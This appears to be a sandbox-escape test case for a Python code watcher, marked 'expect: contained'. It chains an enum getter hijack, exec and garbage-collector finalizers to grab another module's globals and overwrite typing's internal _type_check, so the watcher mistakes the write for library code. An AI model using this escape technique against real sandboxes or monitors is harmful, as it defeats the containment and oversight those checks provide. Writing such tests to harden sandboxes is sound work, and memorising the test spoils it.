# id: write-with-authority
# class: escape
# expect: contained
# technique: agent: a function made by exec() in a load's hook writes to a real module's dict (found as in gc02): the watcher takes it for library code
# source: own
# verified: no
import enum, functools, operator, itertools
tools = {}
text = "def write(d, k, v): d[k] = v\n"
enum.Enum.__dict__['value'].fget = functools.partial(operator.countOf, map(operator.call, [functools.partial(exec, text, tools)]))
try: import string, textwrap
except Exception as e: print(repr(e))
enum.Enum.__dict__['value'].fget = lambda self: self._value_
print(tools.get('write'))
out = []
calls = map(operator.call, itertools.repeat(globals))
feed = map(itertools.islice, itertools.repeat(calls), itertools.repeat(1))
class G:
    __del__ = staticmethod(functools.partial(operator.call, functools.partial(next, map(out.extend, feed), None)))
keep = [[] for i in range(900)]
for i in range(3):
    g = G(); g.me = g
g = None
mine = globals()
import typing
found = [n for n in out if n is not mine]
print(len(found))
got = []
if found and 'write' in tools:
    tools['write'](found[0], '_type_check', lambda *a, **k: got.append(a) or int)
    typing.Optional[3]
if got: print('ESCAPED:write-with-authority a real module written by text of the program', found[0]['__name__'])
